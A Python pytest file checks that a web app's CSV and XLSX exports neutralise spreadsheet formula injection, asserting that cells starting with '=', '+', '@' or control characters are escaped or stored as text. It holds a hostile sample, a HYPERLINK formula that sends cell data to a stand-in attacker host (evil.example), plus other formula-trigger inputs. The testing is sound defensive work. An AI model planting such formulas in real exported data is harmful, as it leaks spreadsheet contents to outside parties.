"""List exports: a cell a spreadsheet would run as a formula opens as text (OWASP "CSV
Injection"), in .csv and in .xlsx alike."""
from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest

from app.extensions import db
from tests import factories
from tests.conftest import DISTRICT_A

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


@pytest.mark.parametrize("text,expected", [
    ("=1+2", "'=1+2"), ("+SUM(A1)", "'+SUM(A1)"), ("-2+3", "'-2+3"), ("@cmd", "'@cmd"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("-", "'-"),
    ("-5", "-5"), ("+12.50", "+12.50"), ("1,234.00", "1,234.00"),
    ("上海=浦东", "上海=浦东"), ("", ""), ("a-b", "a-b"),
])
def test_neutralise_formula(text, expected):
    from app.reports.exports import neutralise_formula

    assert neutralise_formula(text) == expected


def _hostile_enterprise(bureaus):
    name = HOSTILE + "有限公司"
    ent = factories.enterprise(bureaus[DISTRICT_A], name=name)
    ent.legal_representative = "@SUM(1+1)"
    db.session.commit()
    return name


def test_csv_export_neutralises_formula_cells(app_ctx, bureaus, client_as):
    name = _hostile_enterprise(bureaus)
    response = client_as("huangpu").get("/enterpriseview/export/?format=csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + name in cells
    assert "'@SUM(1+1)" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], \
        "a cell starting with a formula trigger was written raw"


def test_xlsx_export_writes_formula_text_as_a_string_cell(app_ctx, bureaus, client_as):
    name = _hostile_enterprise(bureaus)
    response = client_as("huangpu").get("/enterpriseview/export/?format=xlsx")
    assert response.status_code == 200
    content = response.get_data()
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        for sheet in sheets:
            assert b"<f>" not in archive.read(sheet) and b"<f " not in archive.read(sheet), \
                "the sheet holds a formula"
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row if cell.value}
    assert name in cells, "the value was changed or lost"
    assert cells[name].data_type == "s"
    assert cells["@SUM(1+1)"].data_type == "s"
